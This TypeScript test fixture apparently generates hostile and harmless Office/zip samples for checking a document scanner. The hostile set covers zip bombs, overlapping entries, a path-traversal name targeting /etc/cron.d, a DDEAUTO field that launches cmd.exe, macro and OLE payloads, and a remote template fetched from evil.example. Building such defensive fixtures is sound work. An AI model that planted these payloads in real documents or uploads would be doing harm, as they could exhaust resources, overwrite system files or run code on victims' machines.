import { endOf, entryOf, makeDocx, makeZip, wordTypes } from "../make-zip";

const megabyte = 1024 * 1024;
const deflate = { deflate: true };
const zeros = (megabytes: number): Buffer => Buffer.alloc(megabytes * megabyte);

/** Two lines of the directory that share the bytes of one entry: small to send, twice as large at every turn. */
function overlapping(): Buffer {
  const types = entryOf("[Content_Types].xml", Buffer.from(wordTypes), { offset: 0 });
  const offset = types.file.length;
  const kernel = entryOf("word/document.xml", zeros(1), { offset, ...deflate });
  const again = entryOf("word/document.xml", zeros(1), { offset, ...deflate });
  const central = [types.listed, kernel.listed, again.listed];
  return Buffer.concat([types.file, kernel.file, ...central, endOf(central, offset + kernel.file.length)]);
}

/** The first entry's bytes contain the whole second entry: each is whole, together they lie over each other. */
function quoted(): Buffer {
  const types = entryOf("[Content_Types].xml", Buffer.from(wordTypes), { offset: 0 });
  const inner = entryOf("word/document.xml", Buffer.from("<w:document/>"), { offset: 0 });
  const outer = entryOf("word/quote.xml", inner.file, { offset: types.file.length });
  const innerAt = types.file.length + outer.file.length - inner.file.length;
  const moved = entryOf("word/document.xml", Buffer.from("<w:document/>"), { offset: innerAt });
  const central = [types.listed, outer.listed, moved.listed];
  return Buffer.concat([
    types.file,
    outer.file,
    ...central,
    endOf(central, types.file.length + outer.file.length),
  ]);
}

const nested = (): Buffer => {
  const inmost = makeZip({ "a.xml": zeros(1) }, deflate);
  return makeDocx({ "word/embeddings/a.xlsx": makeZip({ "b.xlsx": makeZip({ "c.xlsx": inmost }) }) });
};

const external = (type: string): string =>
  `<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="https://evil.example/x" TargetMode="External"/></Relationships>`;

const settings = "word/_rels/settings.xml.rels";
const field = (words: string): string =>
  `<w:document>${Array.from(words)
    .map((sign) => `<w:r><w:instrText>${sign}</w:instrText></w:r>`)
    .join("")}</w:document>`;

/** Zips that unpack without end or are read in two ways. */
export const bombs: Record<string, () => Buffer> = {
  "a flat bomb": () => makeDocx({ "word/media/a.xml": zeros(160) }, deflate),
  "a bomb that claims to be small": () =>
    makeDocx({ "word/media/a.xml": zeros(20) }, { ...deflate, claim: (size) => Math.min(size, 1_000) }),
  "a bomb in a bomb in a bomb": nested,
  "entries that share their bytes": overlapping,
  "an entry that quotes another": quoted,
  "three thousand entries": () =>
    makeDocx(Object.fromEntries(Array.from({ length: 3_000 }, (_, at) => [`word/${at}.xml`, ""]))),
  "a name that leads out of its folder": () => makeDocx({ "../../etc/cron.d/x": "x" }),
  "bytes behind the end": () => Buffer.concat([makeDocx(), Buffer.from("<script>alert(1)</script>")]),
  "half of a docx": () => makeDocx().subarray(0, 300),
};

/** Office files with something that runs or is fetched. */
export const active: Record<string, () => Buffer> = {
  macros: () => makeDocx({ "word/vbaProject.bin": "x" }),
  "macros of another name": () => makeDocx({ "word/notes.bin": "x" }),
  "a .docm that says it is a .docx": () =>
    makeDocx({
      "customXml/item1.xml":
        '<Default ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>',
    }),
  "an object of another program": () => makeDocx({ "word/embeddings/oleObject1.bin": "x" }),
  "an old Office file inside": () =>
    makeDocx({ "word/embeddings/a.doc": Buffer.from("d0cf11e0a1b11ae1", "hex") }),
  "a workbook with macros inside": () =>
    makeDocx({ "word/embeddings/a.xlsx": makeZip({ "xl/vbaProject.bin": "x" }) }),
  "a template from elsewhere": () => makeDocx({ [settings]: external("attachedTemplate") }),
  "a field that starts a program": () =>
    makeDocx({ "word/footer1.xml": field(' DDEAUTO c:\\cmd.exe "/k calc"') }),
  "an entity": () => makeDocx({ "word/header1.xml": '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>' }),
};

/** What Office writes every day and must not be mistaken for the above. */
export const everyday: Record<string, () => Buffer> = {
  "a link to a page": () => makeDocx({ "word/_rels/document.xml.rels": external("hyperlink") }),
  "a chart with its numbers": () =>
    makeDocx({ "word/embeddings/a.xlsx": makeZip({ "xl/workbook.xml": "<workbook/>" }, deflate) }),
  "a printer's settings": () => makeDocx({ "word/printerSettings1.bin": "x" }),
  "packed text": () => makeDocx({ "word/styles.xml": "<w:styles/>".repeat(5_000) }, deflate),
};
